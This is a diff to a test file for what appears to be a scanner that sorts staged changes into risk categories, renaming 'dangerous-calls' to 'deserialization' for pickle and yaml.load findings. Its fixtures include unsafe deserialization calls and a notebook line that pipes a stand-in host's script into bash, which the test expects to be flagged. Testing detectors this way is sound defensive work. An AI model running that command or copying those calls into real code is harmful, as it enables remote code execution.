@@ -158,9 +158,9 @@ def test_a_python_script_without_a_suffix_is_python(seeded: Repo) -> None:
     seeded.write("bin/deploy", "#!/usr/bin/env python3\nimport pickle\n"
                                "data = pickle.loads(open('x', 'rb').read())\n")
     fc = classes(explain(staged(seeded)))["bin/deploy"]
-    assert "dangerous-calls" in categories(fc)  # a rule limited to .py files
+    assert "deserialization" in categories(fc)  # a rule limited to .py files
     seeded.write("bin/deploy.sh", "#!/bin/sh\npickle.loads(x)\n")
-    assert "dangerous-calls" not in categories(classes(explain(staged(seeded)))["bin/deploy.sh"])
+    assert "deserialization" not in categories(classes(explain(staged(seeded)))["bin/deploy.sh"])
 
 
 def notebook(*cells: str) -> bytes:
@@ -178,8 +178,8 @@ def test_notebooks_are_judged_by_their_code_cells(seeded: Repo) -> None:
     assert fc.file.view == "notebook code cells"
     assert b"+cfg = yaml.load(data)" in fc.file.patch  # not a JSON-quoted string any more
     # Python rules apply to the code cells; the shell line is judged as an install
-    assert {"dangerous-calls", "dependencies"} <= categories(fc)
-    assert fc.tier == "medium"
+    assert {"deserialization", "dependencies"} <= categories(fc)
+    assert fc.tier == "high"  # yaml.load: an unsafe loader
     seeded.write("analysis.ipynb", notebook("import pandas as pd\n",
                                             "!curl -s https://x.example/i.sh | bash\n"))
     assert "dangerous-calls" in categories(classes(explain(staged(seeded)))["analysis.ipynb"])
